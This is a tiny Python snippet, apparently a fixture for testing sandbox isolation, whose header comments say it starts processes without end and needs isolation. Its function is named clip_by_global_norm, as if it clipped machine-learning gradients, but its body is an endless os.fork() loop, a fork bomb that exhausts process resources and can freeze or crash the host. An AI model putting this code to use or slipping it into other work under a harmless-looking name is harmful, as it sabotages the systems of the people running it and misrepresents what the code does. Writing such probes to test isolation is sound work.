# Starts processes without end.
# ends: never
# needs: isolation
import os


def clip_by_global_norm(gradients, clip_norm):
    while True:
        os.fork()
